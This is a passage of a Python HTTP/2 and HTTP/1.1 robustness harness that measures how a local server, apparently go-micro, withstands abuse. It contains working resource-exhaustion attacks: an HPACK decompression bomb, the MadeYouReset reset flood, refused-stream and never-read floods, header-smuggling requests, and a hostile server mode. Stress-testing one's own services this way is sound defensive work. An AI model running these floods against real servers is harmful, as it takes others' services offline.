        p.make = (lambda hdr: lambda k: frame(HEADERS, END_HEADERS, 2 * k + 1, hdr)
                  + frame(DATA, END_STREAM, 2 * k + 1, body))(hdr)
        p.pending = memoryview(first)
        p.sent = 0
        p.stall_at = None
        peers.append(p)
    t_start = time.monotonic()
    deadline = t_start + args.max_wait
    # send what the server takes; never read; watch for the server closing
    next_probe = t_start + args.probe_every
    pollmask = select.POLLRDHUP | select.POLLHUP | select.POLLERR
    while time.monotonic() < deadline:
        busy = [p for p in peers if not p.closed() and p.pending]
        for p in busy:
            while True:
                try:
                    n = p.send_some(p.pending)
                except Closed:
                    break
                p.pending = p.pending[n:]
                p.sent += n
                if p.pending or n == 0:
                    break
                if p.next_req >= args.requests:
                    p.done_at = round(time.monotonic() - t_start, 3)
                    break
                upto = min(args.requests, p.next_req + 64)
                p.pending = memoryview(b"".join(p.make(k) for k in range(p.next_req, upto)))
                p.next_req = upto
        poller = select.poll()
        fds = {}
        for p in peers:
            if p.closed():
                continue
            mask = pollmask | (select.POLLOUT if p.pending else 0)
            poller.register(p.sock.fileno(), mask)
            fds[p.sock.fileno()] = p
        if not fds:
            break
        now = time.monotonic()
        timeout = min(deadline, next_probe) - now
        for fd, ev in poller.poll(max(0, timeout) * 1000):
            p = fds[fd]
            if ev & (select.POLLRDHUP | select.POLLHUP | select.POLLERR):
                p.closed_at = p.now()
                err = p.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                p.hup = {"pollrdhup": bool(ev & select.POLLRDHUP), "pollhup": bool(ev & select.POLLHUP),
                         "pollerr": bool(ev & select.POLLERR), "so_error": os.strerror(err) if err else None,
                         "t": round(time.monotonic() - t_start, 3)}
                if ev & (select.POLLHUP | select.POLLERR):
                    p.reset = True
                else:
                    p.eof = True
            elif ev & select.POLLOUT and p.stall_at is not None:
                p.stall_at = None
        if time.monotonic() >= next_probe:
            next_probe = time.monotonic() + args.probe_every
            for p in peers:
                if p.closed() or p.pending:
                    if p.pending and p.stall_at is None:
                        p.stall_at = round(time.monotonic() - t_start, 3)
                    continue
                try:
                    p.send_some(ping_frame(b"probe..."))
                except Closed:
                    p.hup = {"write_error": p.write_error, "t": round(time.monotonic() - t_start, 3)}
    res["watched_s"] = round(time.monotonic() - t_start, 3)
    res["kernel_before_read"] = kernel_queues(args.port, [p.local_port for p in peers])
    res.update(server_snapshot(args, "after"))
    conns = []
    for p in peers:
        c = {"bytes_sent": p.sent, "requests_fully_sent": 0}
        acc = 0
        for n in p.req_len:
            acc += n
            if acc <= p.sent:
                c["requests_fully_sent"] += 1
        if getattr(p, "hup", None):
            c["closed"] = p.hup
        if getattr(p, "done_at", None) is not None:
            c["all_sent_at_s"] = p.done_at
        conns.append(c)
    # now read: a PING on each open connection, then everything up to its ACK (all the output
    # queued before it), bounded by --read-at-end; this shows GOAWAY/RST and what was queued
    rd = time.monotonic() + args.read_at_end
    waiting = []
    for p in peers:
        p.log_limit = 200
        if p.closed():
            p.eof = p.reset = False  # the close was seen by poll: read what is there all the same
        try:
            p.send_some(ping_frame(b"endread."))
        except Closed:
            pass
        waiting.append(p)
    while waiting and time.monotonic() < rd:
        r, _, _ = select.select(waiting, [], [], rd - time.monotonic())
        for p in r:
            p.recv_some()
            while p.parse_one() is not None:
                pass
            if p.closed() or p.ping_acks:
                waiting.remove(p)
    for p, c in zip(peers, conns):
        c["bytes_read_at_end"] = p.bytes_in
        c["ping_acked_at_end"] = bool(p.ping_acks)
        s = p.summary()
        c["goaway"] = s.get("goaway_code")
        c["rst_codes"] = s.get("rst_codes")
        c["eof_at_end"] = p.closed()
    res["conns"] = len(peers)
    res["closed_by_server"] = sum(1 for c in conns if "closed" in c)
    res["still_open"] = len(conns) - res["closed_by_server"]
    res["close_after_s"] = spread([c["closed"]["t"] for c in conns if "closed" in c])
    res["requests_fully_sent"] = spread([c["requests_fully_sent"] for c in conns])
    res["bytes_read_at_end"] = spread([c["bytes_read_at_end"] for c in conns])
    res["ping_acked_at_end"] = sum(1 for c in conns if c["ping_acked_at_end"])
    res["rst_codes_at_end"] = {}
    for c in conns:
        for k, v in (c.get("rst_codes") or {}).items():
            res["rst_codes_at_end"][k] = res["rst_codes_at_end"].get(k, 0) + v
    res["goaway_at_end"] = sum(1 for c in conns if c.get("goaway"))
    res["per_connection"] = conns
    for p in peers:
        p.close()
    return res


def sc_big_bodies(args):
    res = server_snapshot(args, "before")
    p = h2_connect(args)
    deadline = time.monotonic() + args.max_wait
    # the server's SETTINGS tell the windows and the frame size
    p.wait_for(lambda e: e["type"] == "SETTINGS" and not e.get("ack"), deadline)
    ss = p.server_settings
    res["server_settings"] = dict(ss)
    max_frame = ss.get("MAX_FRAME_SIZE", 16384)
    stream_win0 = ss.get("INITIAL_WINDOW_SIZE", 65535)
    conn_win = 65535
    enc = hpack.Encoder()
    hdr = None
    per_stream = args.mib * 1024 * 1024
    sids = [2 * i + 1 for i in range(args.streams)]
    win = {}
    left = {}
    granted = {"connection": 0, "streams": 0}
    rst = {}
    chunk = b"\0" * max_frame
    # open every stream
    out = bytearray()
    for sid in sids:
        hdr = enc.encode(request_headers(args))
        out += frame(HEADERS, END_HEADERS, sid, hdr)
        win[sid] = stream_win0
        left[sid] = per_stream
    p.send(bytes(out))
    sent = 0
    last_progress = time.monotonic()
    stop = None

    def absorb():
        nonlocal conn_win
        while True:
            ev = p.parse_one()
            if ev is None:
                return
            if ev["type"] == "WINDOW_UPDATE":
                if ev["sid"] == 0:
                    conn_win += ev["inc"]
                    granted["connection"] += ev["inc"]
                elif ev["sid"] in win:
                    win[ev["sid"]] += ev["inc"]
                    granted["streams"] += ev["inc"]
            elif ev["type"] == "SETTINGS" and "settings" in ev and "INITIAL_WINDOW_SIZE" in ev["settings"]:
                pass  # taken at the start; a change mid-way is not expected from this server
            elif ev["type"] == "RST_STREAM":
                rst[ev["sid"]] = ev["code"]
                left.pop(ev["sid"], None)

    try:
        while True:
            absorb()
            if p.closed():
                stop = "connection closed"
                break
            if not left:
                stop = "all sent" if not rst else "all sent or reset"
                break
            if time.monotonic() > deadline:
                stop = "bound"
                break
            out = bytearray()
            for sid in list(left):
                while left.get(sid) and win[sid] > 0 and conn_win > 0 and len(out) < (1 << 20):
                    n = min(left[sid], win[sid], conn_win, max_frame)
                    out += frame(DATA, 0, sid, chunk[:n])
                    left[sid] -= n
                    win[sid] -= n
                    conn_win -= n
                    sent += n
                if left.get(sid) == 0:
                    del left[sid]
                if len(out) >= (1 << 20):
                    break
            if out:
                p.send(bytes(out), deadline)
                last_progress = time.monotonic()
                continue
            # no window: wait for a WINDOW_UPDATE (or RST/GOAWAY) up to --stall seconds
            w = min(deadline, last_progress + args.stall) - time.monotonic()
            if w <= 0:
                stop = "no window for %.1f s" % args.stall
                break
            if p.wait_readable(w):
                p.recv_some()
    except Closed as e:
        stop = "write failed: %s" % e
    res["stopped"] = stop
    res["bytes_accepted"] = sent
    res["mib_accepted"] = round(sent / 1048576, 1)
    res["streams_completed"] = sum(1 for sid in sids if sid not in left and sid not in rst)
    res["window_granted"] = granted
    res["rst_codes"] = {c: list(rst.values()).count(c) for c in set(rst.values())}
    if not p.closed():
        res["ping_ack_after"] = p.ping_roundtrip(time.monotonic() + 10)
    res.update(server_snapshot(args, "after"))
    s = p.summary()
    res["frames"] = s["frames"][:60]
    for k in ("goaway_code", "goaway_debug", "closed_by_server", "closed_after_s"):
        if k in s:
            res[k] = s[k]
    p.close()
    if args.pid:
        res["rss_kb_after_close"] = rss_after_close(args)
    return res


def sample_rss(args, t_start, duration, samples):
    """RSS at `samples` evenly spaced times over `duration` (time is what is measured here)."""
    out = []
    for i in range(1, samples + 1):
        left = t_start + duration * i / samples - time.monotonic()
        if left > 0:
            select.select([], [], [], left)
        out.append([round(time.monotonic() - t_start, 1), rss_kb(args.pid)])
    return out


def sc_tls_slow_reader(args):
    res = server_snapshot(args, "before")
    p = h2_connect(args, window=MAX_WINDOW, rcvbuf=args.rcvbuf)
    p.auto_settings_ack = False
    enc = hpack.Encoder()
    if args.grpc:
        path = args.path or "/counter.Counter/Count"
        hdrs = request_headers(args, grpc=True, path=path)
        body = grpc_message(pb_count_request(args.count, args.size))
    else:
        hdrs = request_headers(args, endpoint=args.endpoint if args.endpoint != "Helloworld.Greeting" else "Counter.Count",
                               stream_hint=True, grpc=False, path="/")
        body = grpc_message(json.dumps({"count": args.count, "size": args.size}).encode())
    p.send(window_update(0, MAX_WINDOW - 65535) + frame(HEADERS, END_HEADERS, 1, enc.encode(hdrs))
           + frame(DATA, END_STREAM, 1, body), read=False)
    t_start = time.monotonic()
    res["transport"] = "tls" if args.tls else "h2c"
    res["protocol"] = "grpc" if args.grpc else "micro"
    if args.pid:
        res["rss_kb_samples"] = sample_rss(args, t_start, args.duration, args.samples)
    else:
        select.select([], [], [], args.duration)
    res.update(server_snapshot(args, "after"))
    res["kernel"] = kernel_queues(args.port, [p.local_port])
    p.close()
    return res


def sc_trailer_endpoint(args):
    body = greeting_body("trailer")
    deadline = time.monotonic() + args.max_wait
    res = {}
    if args.h1:
        s = socket.create_connection((args.host, args.port), timeout=args.max_wait)
        if args.tls:
            s = tls_wrap(args, s, "http/1.1")
        req = ("POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n"
               "Trailer: Micro-Endpoint\r\n\r\n").encode()
        req += b"%x\r\n" % len(body) + body + b"\r\n0\r\nMicro-Endpoint: Helloworld.Greeting\r\n\r\n"
        s.sendall(req)
        resp = read_h1_responses(s, deadline, want=1)
        s.close()
        res["protocol"] = "http/1.1"
        res.update(resp[0] if resp else {"status": None})
        return res
    p = h2_connect(args)
    enc = hpack.Encoder()
    hdrs = [(":method", "POST"), (":scheme", "https" if args.tls else "http"), (":path", "/"), (":authority", "x"),
            ("content-type", "application/json")]
    p.send(frame(HEADERS, END_HEADERS, 1, enc.encode(hdrs)) + frame(DATA, 0, 1, body)
           + frame(HEADERS, END_STREAM | END_HEADERS, 1, enc.encode([("micro-endpoint", "Helloworld.Greeting")])))
    blocks, data = [], bytearray()
    while True:
        ev = p.next_frame(deadline)
        if ev is None:
            break
        if ev["sid"] == 1 and "headers" in ev:
            blocks.append(ev["headers"])
        if ev["sid"] == 1 and ev["type"] == "DATA":
            data += ev["data"]
        if ev["sid"] == 1 and (ev.get("end_stream") or ev["type"] == "RST_STREAM"):
            break
    res["protocol"] = "h2"
    res["status"] = dict(blocks[0]).get(":status") if blocks else None
    res["headers"] = blocks[0] if blocks else None
    res["trailers"] = blocks[1] if len(blocks) > 1 else None
    res["body"] = bytes(data).decode("utf-8", "replace")
    s = p.summary()
    res["frames"] = s["frames"]
    if "rst_codes" in s:
        res["rst_codes"] = s["rst_codes"]
    p.close()
    return res


def sc_refused_flood(args):
    res = server_snapshot(args, "before")
    p = h2_connect(args, rcvbuf=args.rcvbuf)
    p.auto_settings_ack = False
    enc = hpack.Encoder()
    h = [(":method", "POST"), (":scheme", "http"), (":path", "/"), (":authority", "x"),
         ("content-type", "application/json"), ("micro-endpoint", args.endpoint)]
    first = enc.encode(h)
    block = enc.encode(h)
    assert enc.encode(h) == block, "HPACK block not stable"
    res["request_bytes"] = 9 + len(block)
    sid = 1
    first_frame = frame(HEADERS, END_STREAM | END_HEADERS, sid, first)
    req_len = 9 + len(block)
    pending = memoryview(first_frame)
    written = 0
    t_start = time.monotonic()
    end = t_start + args.duration
    samples = []
    next_sample = t_start + args.duration / args.samples
    blocked_s = 0.0

    def requests_written():
        return 0 if written < len(first_frame) else 1 + (written - len(first_frame)) // req_len

    while True:
        now = time.monotonic()
        if now >= next_sample:
            samples.append([round(now - t_start, 1), rss_kb(args.pid), requests_written()])
            next_sample += args.duration / args.samples
        if now >= end or p.closed():
            break
        if not pending:
            buf = bytearray()
            for _ in range(256):
                if sid + 2 > MAX_WINDOW:
                    break
                sid += 2
                buf += frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
            if not buf:
                break
            pending = memoryview(bytes(buf))
        try:
            n = p.send_some(pending)
        except Closed:
            break
        pending = pending[n:]
        written += n
        if n == 0:
            # the server stopped reading: wait until it reads again or the next sample
            t = time.monotonic()
            select.select([], [p.sock], [], max(0, min(end, next_sample) - t))
            blocked_s += time.monotonic() - t
    res["duration_s"] = round(time.monotonic() - t_start, 1)
    res["requests_sent"] = requests_written()
    res["bytes_sent"] = written
    res["highest_stream_id_written"] = 2 * requests_written() - 1
    res["writer_blocked_s"] = round(blocked_s, 1)
    if args.pid:
        res["rss_kb_samples"] = samples  # [t, rss_kb, requests sent]
    res.update(server_snapshot(args, "after"))
    res["kernel"] = kernel_queues(args.port, [p.local_port])
    res["closed_by_server"] = p.closed()
    if p.write_error:
        res["write_error"] = p.write_error
    p.close()
    if args.pid:
        res["rss_kb_after_close"] = rss_after_close(args)
    return res


def sc_hpack_bomb(args):
    res = server_snapshot(args, "before")
    reqs = []
    for i in range(args.requests):
        deadline = time.monotonic() + args.max_wait
        p = h2_connect(args)
        p.wait_for(lambda e: e["type"] == "SETTINGS" and not e.get("ack"), deadline)
        table = p.server_settings.get("HEADER_TABLE_SIZE", 4096)
        max_frame = p.server_settings.get("MAX_FRAME_SIZE", 16384)
        name = "x-bomb"
        vlen = min(args.field_bytes, table - 32 - len(name))
        head = (b"\x83\x86\x84" + literal_name(1, "x")  # POST, http, /, :authority x
                + literal("content-type", "application/json") + literal("micro-endpoint", args.endpoint)
                + literal(name, "b" * vlen, indexing=True))
        frames_n = 1 + args.continuations
        refs = frames_n * max_frame - len(head)
        block = head + b"\xbe" * refs  # index 62: the newest dynamic entry
        wire = split_block(block, max_frame, 1, end_stream=True)
        c0 = cpu_s(args.pid)
        t0 = time.monotonic()
        r = {"block_bytes": len(block), "fields": refs + 1 + 5, "expanded_bytes": (refs + 1) * (len(name) + vlen),
             "frames": frames_n}
        try:
            p.send(wire, deadline)
        except Closed as e:
            r["write_error"] = str(e)
        ev = p.wait_for(lambda e: (e["sid"] == 1 and e["type"] in ("HEADERS", "RST_STREAM")) or e["type"] == "GOAWAY",
                        deadline)
        r["answer_s"] = round(time.monotonic() - t0, 3)
        c1 = cpu_s(args.pid)
        if ev is None:
            r["answer"] = "eof" if p.closed() else "none within bound"
        elif ev["type"] == "HEADERS":
            r["status"] = dict(ev.get("headers", [])).get(":status")
        else:
            r["answer"] = "%s %s" % (ev["type"], ev["code"])
        if c0 is not None and c1 is not None:
            r["server_cpu_s"] = round(c1 - c0, 3)
        p.close()
        reqs.append(r)
    res["requests"] = reqs
    res["server_cpu_s_per_request"] = spread([r.get("server_cpu_s") for r in reqs])
    res.update(server_snapshot(args, "after"))
    return res


def sc_bad_preface(args):
    variants = {"h2spec": b"INVALID CONNECTION PREFACE\r\n\r\n",
                "pri-xx": b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
                "pri-bad-end": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\rQ"}
    chosen = list(variants) if args.variant in (None, "all") else [args.variant]
    res = {}
    for v in chosen:
        deadline = time.monotonic() + args.max_wait
        p = Peer(args)
        p.send(variants[v])
        raw = bytearray()
        # read until close or the bound; keep the raw bytes, then parse as frames or HTTP/1.1
        while not p.closed() and time.monotonic() < deadline:
            if p.wait_readable(deadline - time.monotonic()):
                before = len(p.inbuf)
                p.recv_some()
                raw += p.inbuf[before:]
        r = {"sent": variants[v].decode("latin-1"), "bytes_received": len(raw),
             "closed_by_server": p.closed(), "closed_after_s": round(p.closed_at, 3) if p.closed_at else None,
             "close_kind": "reset" if p.reset else "eof" if p.eof else None}
        if raw.startswith(b"HTTP/"):
            r["http1_status_line"] = raw.split(b"\r\n", 1)[0].decode("latin-1")
        else:
            q = Peer.__new__(Peer)
            Peer.__init__(q, args, sock=_null_sock())
            q.inbuf = bytearray(raw)
            while q.parse_one() is not None:
                pass
            s = q.summary()
            r["frames"] = s["frames"]
            for k in ("goaway_code", "goaway_debug"):
                if k in s:
                    r[k] = s[k]
        r["head_b64"] = base64.b64encode(bytes(raw[:120])).decode()
        # h2spec reads whatever comes as frames: it passes on GOAWAY(PROTOCOL_ERROR) or a close with
        # nothing unparsable before it (an HTTP/1.1 400 reads as a broken frame: "unexpected EOF")
        r["h2spec_would_pass"] = r.get("goaway_code") == "PROTOCOL_ERROR" or (
            p.closed() and "http1_status_line" not in r and not raw)
        p.close()
        res[v] = r
    return {"variants": res}


class _null_sock:
    def setblocking(self, flag):
        pass

    def getsockname(self):
        return ("", 0)

    def close(self):
        pass


def sc_lower_stream_id(args):
    deadline = time.monotonic() + args.max_wait
    p = h2_connect(args)
    p.wait_for(lambda e: e["type"] == "SETTINGS" and not e.get("ack"), deadline)
    p.wait_for(lambda e: e["type"] == "SETTINGS" and e.get("ack"), deadline)
    enc = hpack.Encoder()
    h = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "%s:%d" % (args.host, args.port))]
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 5, enc.encode(h)) + frame(HEADERS, END_STREAM | END_HEADERS, 3, enc.encode(h)))
    t_sent = p.now()
    while True:
        ev = p.next_frame(deadline)
        if ev is None or ev["type"] == "GOAWAY":
            break
    if not p.closed():
        # after GOAWAY: does the server close? (bounded)
        while p.next_frame(min(deadline, time.monotonic() + 2)) is not None:
            pass
    res = p.summary(events=False)
    res["answered_streams"] = sorted({e["sid"] for e in p.events if e["type"] == "HEADERS" and e["sid"]})
    res["statuses"] = {e["sid"]: dict(e.get("headers", [])).get(":status") for e in p.events
                       if e["type"] == "HEADERS" and e["sid"] and "headers" in e}
    res["connection_error"] = res.get("goaway_code") == "PROTOCOL_ERROR"
    res["sent_at_s"] = round(t_sent, 3)
    p.close()
    return res


def tls_wrap(args, s, alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.load_verify_locations(args.ca)
    if args.cert:
        ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols([alpn])
    return ctx.wrap_socket(s, server_hostname="localhost")


def read_h1_responses(s, deadline, want=None):
    """HTTP/1.1 responses until EOF, `want` responses, or the deadline."""
    buf = bytearray()
    out = []
    eof = False

    def fill():
        nonlocal eof
        left = deadline - time.monotonic()
        if left <= 0:
            return False
        s.settimeout(left)
        try:
            d = s.recv(65536)
        except (socket.timeout, TimeoutError):
            return False
        except (ConnectionResetError, ssl.SSLError, OSError):
            eof = True
            return False
        if not d:
            eof = True
            return False
        buf.extend(d)
        return True

    while want is None or len(out) < want:
        while b"\r\n\r\n" not in buf:
            if eof or not fill():
                return out if not buf else out + [{"partial": bytes(buf[:300]).decode("latin-1")}]
        head, rest = bytes(buf).split(b"\r\n\r\n", 1)
        lines = head.decode("latin-1").split("\r\n")
        hdrs = {}
        for line in lines[1:]:
            k, _, v = line.partition(":")
            hdrs[k.strip().lower()] = v.strip()
        buf[:] = rest
        body = b""
        if "content-length" in hdrs:
            n = int(hdrs["content-length"])
            while len(buf) < n and not eof and fill():
                pass
            body, buf[:] = bytes(buf[:n]), buf[n:]
        elif hdrs.get("transfer-encoding", "").lower() == "chunked":
            chunks = bytearray()
            while True:
                while b"\r\n" not in buf and not eof and fill():
                    pass
                if b"\r\n" not in buf:
                    break
                line, _, restb = bytes(buf).partition(b"\r\n")
                n = int(line.split(b";")[0], 16)
                while len(restb) < n + 2 and not eof and fill():
                    restb = bytes(buf).partition(b"\r\n")[2]
                buf[:] = restb
                if n == 0:
                    while b"\r\n" not in buf and not eof and fill():
                        pass
                    # trailers until the empty line
                    while not bytes(buf).startswith(b"\r\n"):
                        if b"\r\n" in buf:
                            buf[:] = bytes(buf).partition(b"\r\n")[2]
                        elif eof or not fill():
                            break
                    buf[:] = buf[2:]
                    break
                chunks += buf[:n]
                buf[:] = buf[n + 2:]
            body = bytes(chunks)
        out.append({"status_line": lines[0], "status": int(lines[0].split()[1]) if len(lines[0].split()) > 1 else None,
                    "headers": hdrs, "body": body[:2000].decode("utf-8", "replace")})
        if hdrs.get("connection", "").lower() == "close":
            break
    return out


def sc_h1_space_before_colon(args):
    body = greeting_body("space")
    variants = {
        "cl": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nMicro-Endpoint: Helloworld.Greeting\r\n"
               b"Content-Length : %d\r\n\r\n" % len(body)) + body,
        "te": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nMicro-Endpoint: Helloworld.Greeting\r\n"
               b"Transfer-Encoding : chunked\r\n\r\n") + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n",
        "control": (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nMicro-Endpoint: Helloworld.Greeting\r\n"
                    b"Content-Length: %d\r\n\r\n" % len(body)) + body,
    }
    sentinel = b"GET /sentinel HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    chosen = list(variants) if args.variant in (None, "all") else [args.variant]
    res = {}
    for v in chosen:
        deadline = time.monotonic() + args.max_wait
        s = socket.create_connection((args.host, args.port), timeout=args.max_wait)
        if args.tls:
            s = tls_wrap(args, s, "http/1.1")
        s.sendall(variants[v] + sentinel)
        resp = read_h1_responses(s, deadline)
        s.close()
        res[v] = {"status_line": resp[0].get("status_line") if resp else None,
                  "statuses": [r.get("status") for r in resp],
                  "bodies": [r.get("body", r.get("partial", ""))[:200] for r in resp]}
    return {"variants": res}


def accept_h2c_client(args, res):
    """Listens on --listen-port (0: free; says `listening on 127.0.0.1:PORT` on stderr), accepts one
    client, reads its preface and sends SETTINGS. Returns (peer, client pid, deadline), or None
    (res says why)."""
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", args.listen_port))
    ls.listen(8)
    port = ls.getsockname()[1]
    print("listening on 127.0.0.1:%d" % port, file=sys.stderr, flush=True)
    deadline = time.monotonic() + args.max_wait
    res["port"] = port
    r, _, _ = select.select([ls], [], [], args.max_wait)
    if not r:
        res["accepted"] = False
        return None
    cs, addr = ls.accept()
    ls.close()
    res["accepted"] = True
    cpid = pid_of_socket(addr[1], port)
    res["client_pid"] = cpid
    if cpid:
        try:
            res["client_cmd"] = open("/proc/%d/cmdline" % cpid, "rb").read().replace(b"\0", b" ").decode()[:200]
        except OSError:
            pass
        res["client_rss_kb_at_accept"] = rss_kb(cpid)
    p = Peer(args, sock=cs)
    while len(p.inbuf) < 24 and not p.closed() and time.monotonic() < deadline:
        if p.wait_readable(deadline - time.monotonic()):
            p.recv_some()
    if bytes(p.inbuf[:24]) != PREFACE:
        res["client_preface"] = bytes(p.inbuf[:80]).decode("latin-1")
        p.close()
        return None
    del p.inbuf[:24]
    p.send(settings_frame([(3, 100)]))
    return p, cpid, deadline


def sc_server_empty_200(args):
    """An h2c server that answers every request with a bare `:status 200` and no body, as
    go-micro's HTTP transport does on h2c (its handler's answer never reaches the stream)."""
    res = {}
    accepted = accept_h2c_client(args, res)
    if accepted is None:
        return res
    p, _, deadline = accepted
    answered = 0
    while time.monotonic() < deadline and not p.closed():
        ev = p.next_frame(min(deadline, time.monotonic() + 0.1))
        if ev and ev["type"] in ("HEADERS", "DATA") and ev["sid"] and ev.get("end_stream"):
            try:
                p.send(frame(HEADERS, END_HEADERS | END_STREAM, ev["sid"], b"\x88"), deadline)  # :status 200
                answered += 1
            except Closed:
                break
    res["answered"] = answered
    p.close()
    return res


def sc_server_hpack_expanded(args):
    res = {}
    accepted = accept_h2c_client(args, res)
    if accepted is None:
        return res
    p, cpid, deadline = accepted
    max_frame = 16384
    name = "x-big"
    vlen = 4096 - 32 - len(name)
    head = b"\x88" + literal("content-type", "application/json") + literal(name, "c" * vlen, indexing=True)
    frames_n = 1 + args.continuations
    block1 = head + b"\xbe" * (frames_n * max_frame - len(head))
    block2 = b"\xbe" * (frames_n * max_frame)
    answered = set()
    sent_bytes = 0
    peak = {"rss": None, "hwm": None}

    def sample():
        if cpid:
            rss, hwm = rss_kb(cpid), hwm_kb(cpid)
            if rss is not None:
                peak["rss"] = max(peak["rss"] or 0, rss)
            if hwm is not None:
                peak["hwm"] = max(peak["hwm"] or 0, hwm)
            return rss

    while time.monotonic() < deadline and not p.closed():
        ev = p.next_frame(min(deadline, time.monotonic() + 0.1))
        sample()
        if ev is None:
            continue
        sid = ev["sid"]
        if ev["type"] in ("HEADERS", "DATA") and sid and ev.get("end_stream") and sid not in answered:
            answered.add(sid)
            if len(answered) > args.answers:
                continue
            wire = split_block(block1, max_frame, sid, end_stream=False)
            wire += frame(DATA, 0, sid, b"{}")
            if args.blocks >= 2:
                wire += split_block(block2, max_frame, sid, end_stream=True)
            else:
                wire += frame(DATA, END_STREAM, sid, b"")
            try:
                p.send(wire, deadline)
                sent_bytes += len(wire)
                res.setdefault("answered_at_s", round(p.now(), 3))
            except Closed as e:
                res["write_error"] = str(e)
    res["bytes_sent"] = sent_bytes
    res["fields_per_block"] = len(block2)
    res["expanded_bytes_per_block"] = len(block2) * (len(name) + vlen)
    res["client_rss_kb_peak_sampled"] = peak["rss"]
    res["client_vmhwm_kb"] = peak["hwm"]
    res["client_alive_at_end"] = alive(cpid) if cpid else None
    s = p.summary()
    res["client_frames"] = s["frames"]
    for k in ("goaway_code", "goaway_debug", "rst_codes", "closed_by_server", "closed_after_s"):
        if k in s:
            res[k.replace("closed_by_server", "closed_by_client")] = s[k]
    p.close()
    return res


def sc_made_you_reset(args):
    """MadeYouReset (CVE-2025-8671): complete requests, each followed by a frame that makes the
    server reset the stream (a WINDOW_UPDATE that overflows its send window, or a body longer
    than its content-length), --streams times; the server should end the connection
    (GOAWAY ENHANCE_YOUR_CALM) long before."""
    deadline = time.monotonic() + args.max_wait
    p = h2_connect(args)
    enc = hpack.Encoder()
    h = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "%s:%d" % (args.host, args.port))]
    sid, sent = 1, 0
    for i in range(args.streams):
        if args.variant == "cl":
            out = frame(HEADERS, END_HEADERS, sid, enc.encode(h + [("content-length", "1")])) + frame(DATA, END_STREAM, sid, b"ab")
        else:
            out = frame(HEADERS, END_STREAM | END_HEADERS, sid, enc.encode(h)) + window_update(sid, 0x7FFFFFFF)
        try:
            p.send(out)
        except Closed:
            break
        sent += 1
        sid += 2
        if i % 50 == 49:
            # a PING round trip per 50 streams: the server has processed (and reset) them, so
            # they never pile up past its stream limit however slow it runs (sanitizers)
            try:
                p.ping_roundtrip(deadline, opaque=b"myr%05d" % (i % 100000))
            except Closed:
                break
            if p.closed() or any(e["type"] == "GOAWAY" for e in p.events):
                break
    p.wait_for(lambda e: e["type"] == "GOAWAY", deadline)
    res = p.summary()
    res["streams_sent"] = sent
    p.close()
    return res


SCENARIOS = {
    "made-you-reset": (sc_made_you_reset, 30),
    "trailers-after-queued-answer": (sc_trailers_after_queued_answer, 30),
    "open-stream": (sc_open_stream, 30),
    "zero-window": (sc_zero_window, 30),
    "never-read": (sc_never_read, 30),
    "idle": (sc_idle, 30),
    "big-bodies": (sc_big_bodies, 60),
    "tls-slow-reader": (sc_tls_slow_reader, 30),
    "trailer-endpoint": (sc_trailer_endpoint, 10),
    "refused-flood": (sc_refused_flood, 30),
    "hpack-bomb": (sc_hpack_bomb, 30),
    "bad-preface": (sc_bad_preface, 5),
    "lower-stream-id": (sc_lower_stream_id, 5),
    "h1-space-before-colon": (sc_h1_space_before_colon, 5),
    "server-hpack-expanded": (sc_server_hpack_expanded, 30),
    "server-empty-200": (sc_server_empty_200, 30),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("scenario", choices=sorted(SCENARIOS))
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--ca")
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--pid", type=int, help="the server's pid: RSS, CPU and liveness from /proc")
    ap.add_argument("--max-wait", type=float, help="bound on every wait, seconds (default per scenario)")
    ap.add_argument("--path", help="request :path (gRPC method path with --grpc)")
    ap.add_argument("--grpc", action="store_true", help="gRPC (application/grpc, te: trailers) instead of micro")
    ap.add_argument("--endpoint", default="Helloworld.Greeting", help="micro-endpoint")
    ap.add_argument("--conns", type=int, default=50)
    ap.add_argument("--window", type=int, default=0, help="trailers-after-queued-answer: INITIAL_WINDOW_SIZE")
    ap.add_argument("--body", default='{"name":"alice"}')
    ap.add_argument("--no-body", action="store_true")
    ap.add_argument("--no-canary", action="store_true")
    ap.add_argument("--answer-wait", type=float, default=5.0, help="bound on waiting for the queued answer")
    ap.add_argument("--trailer-bytes", type=int, default=8192)
    ap.add_argument("--grant", type=int, help="trailers-after-queued-answer: stream 1's WINDOW_UPDATE (default: up to 2^31-1)")
    ap.add_argument("--dump", help="trailers-after-queued-answer: write the DATA received to this file")
    ap.add_argument("--max-answer", type=int, default=4096, help="more DATA than this is not a real answer")
    ap.add_argument("--keep-bytes", type=int, default=64 << 20, help="DATA bytes kept for the canary search")
    ap.add_argument("--requests", type=int, help="never-read: per connection (2000); hpack-bomb: count (3)")
    ap.add_argument("--name-bytes", type=int, default=1000)
    ap.add_argument("--rcvbuf", type=int, default=4096)
    ap.add_argument("--probe-every", type=float, default=5.0)
    ap.add_argument("--read-at-end", type=float, default=10.0, help="never-read: bound on reading at the end")
    ap.add_argument("--streams", type=int, default=200)
    ap.add_argument("--mib", type=int, default=4)
    ap.add_argument("--stall", type=float, default=2.0)
    ap.add_argument("--count", type=int, default=10**9)
    ap.add_argument("--size", type=int, default=16384)
    ap.add_argument("--duration", type=float, default=20.0)
    ap.add_argument("--samples", type=int, default=10)
